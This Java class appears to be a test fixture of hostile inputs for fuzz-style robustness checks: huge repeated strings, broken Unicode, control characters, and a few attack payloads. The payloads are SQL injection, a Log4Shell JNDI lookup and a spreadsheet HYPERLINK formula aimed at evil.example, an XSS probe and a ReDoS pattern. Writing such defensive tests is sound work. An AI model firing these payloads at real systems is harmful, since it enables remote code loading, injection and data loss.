package dev.headwater.signal;

import java.util.List;

/** Texts that nobody means well by. None of them may be a reason to fail, or to take long. */
final class Hostile {
    static final int TWO_MEGABYTES = 2 << 20;

    private Hostile() {}

    static List<String> texts() {
        return List.of(
                "google ".repeat(TWO_MEGABYTES / 7),
                "a".repeat(TWO_MEGABYTES),
                "not or ".repeat(280),
                "ai ".repeat(660),
                "x".repeat(1_990) + " google",
                "/".repeat(TWO_MEGABYTES),
                "/%".repeat(TWO_MEGABYTES / 2),
                "/?" + "&=".repeat(TWO_MEGABYTES / 2),
                "%25".repeat(TWO_MEGABYTES / 3),
                "+".repeat(TWO_MEGABYTES),
                "1".repeat(TWO_MEGABYTES),
                "o\u0301\u0327\u0316".repeat(500),
                "\uFDFA".repeat(2_000),
                "\u202E\u2066elgoog\u2069\u202C",
                "\u0000\u0001\u0007\u001B[31m\u007F",
                "\uD800",
                "\uDFFF\uD83D",
                "\uFFFF\uFEFF",
                "'; DROP TABLE leads; --",
                "${jndi:ldap://evil.example/a}",
                "=HYPERLINK(\"http://evil.example\")",
                "<script>alert(1)</script>",
                "(a+)+$",
                ".",
                "\\",
                "🤷‍♀️");
    }
}
